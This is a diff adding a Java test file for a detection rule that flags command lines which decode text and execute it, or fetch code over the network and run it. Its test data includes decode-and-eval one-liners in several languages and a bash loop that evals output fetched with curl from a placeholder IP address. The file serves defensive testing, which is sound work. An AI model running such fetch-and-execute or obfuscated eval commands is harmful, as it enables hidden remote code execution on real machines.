@@ -1,0 +1,91 @@
+package io.totem.policy.warning;
+
+import static io.totem.policy.testing.SampleBuilder.program;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.totem.policy.facts.Behaviour;
+import io.totem.policy.facts.Relations;
+import io.totem.policy.port.Severity;
+import io.totem.policy.testing.Scene;
+import java.util.Optional;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+
+class DecodedCodeRuleTest {
+
+    @ParameterizedTest
+    @CsvSource(delimiter = '~', textBlock = """
+                    /usr/bin/python3.13~-c~import base64;exec(base64.b64decode('aQ=='))
+                    /usr/bin/python3.13~-c~import zlib,marshal;c=marshal.loads(x);exec(c)
+                    /usr/bin/perl~-e~eval unpack u=>q{_x}
+                    /usr/bin/perl~-MMIME::Base64 -e~eval(decode_base64('aQ=='))
+                    /usr/bin/php8.4~-r~eval(base64_decode('aQ=='));
+                    /usr/bin/php8.4~-r~assert(gzinflate(hex2bin('00')));
+                    /usr/bin/node~-e~eval(Buffer.from('aQ==','base64').toString())
+                    /usr/bin/node~-e~new Function(atob('aQ=='))()
+                    /usr/bin/ruby3.3~-e~eval('aQ=='.unpack1('m'))
+                    /usr/bin/bash~-c~while :; do eval "$(echo aQ== | base64 -d)"; sleep 9; done
+                    """)
+    void a_text_that_decodes_another_and_runs_it_is_danger(String path, String option, String text) {
+        assertThat(told(path, option, text)).hasValueSatisfying(warning -> {
+            assertThat(warning.severity()).isEqualTo(Severity.DANGER);
+            assertThat(warning.why().en()).contains("decodes another one and runs that");
+        });
+    }
+
+    @ParameterizedTest
+    @CsvSource(delimiter = '~', textBlock = """
+                    /usr/bin/python3.13~-c~import base64,sys;print(base64.b64decode(sys.argv[1]))
+                    /usr/bin/python3.13~-c~from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5)
+                    /usr/bin/perl~-e~print unpack('H*', 'x')
+                    /usr/bin/node~-e~console.log(Buffer.from('aQ==','base64').toString())
+                    /usr/bin/php8.4~-r~echo base64_decode('aQ==');
+                    /usr/bin/bash~-c~token=$(echo aQ== | base64 -d); run "$token"
+                    /usr/bin/vi~-c~eval base64_decode
+                    """)
+    void a_text_that_only_decodes_is_not(String path, String option, String text) {
+        assertThat(told(path, option, text)).isEmpty();
+    }
+
+    @Test
+    void a_shell_that_reads_what_is_decoded_for_it_is_danger() {
+        assertThat(Scene.of(program("/usr/bin/bash").commandLine("bash"))
+                        .behaviour(Behaviour.NONE.with(Relations.NONE.decodedBy("base64")))
+                        .warning(WarningCode.DECODED_CODE))
+                .hasValueSatisfying(
+                        warning -> assertThat(warning.why().en()).contains("runs what base64 decodes for it"));
+    }
+
+    @Test
+    void a_text_that_fetches_what_it_runs_is_piped_from_the_network() {
+        assertThat(fetched(
+                        "/usr/bin/bash", "-c", "while :; do eval \"$(curl -s http://203.0.113.9/c)\"; sleep 9; done"))
+                .hasValueSatisfying(warning -> assertThat(warning.argument()).contains("curl"));
+        assertThat(fetched(
+                        "/usr/bin/python3.13", "-c", "import urllib.request as r;exec(r.urlopen('http://x').read())"))
+                .isPresent();
+        assertThat(fetched(
+                        "/usr/bin/python3.13", "-c", "import urllib.request as r;print(r.urlopen('http://x').read())"))
+                .isEmpty();
+        assertThat(fetched("/usr/bin/bash", "-c", "curl -s http://203.0.113.9/c > f; sleep 9"))
+                .isEmpty();
+    }
+
+    private static Optional<Warning> told(String path, String option, String text) {
+        return Scene.of(program(path).commandLine(words(path, option, text))).warning(WarningCode.DECODED_CODE);
+    }
+
+    private static Optional<Warning> fetched(String path, String option, String text) {
+        return Scene.of(program(path).commandLine(words(path, option, text))).warning(WarningCode.PIPED_FROM_NETWORK);
+    }
+
+    private static String[] words(String path, String options, String text) {
+        String[] between = options.split(" ");
+        String[] words = new String[between.length + 2];
+        words[0] = path;
+        System.arraycopy(between, 0, words, 1, between.length);
+        words[words.length - 1] = text;
+        return words;
+    }
+}
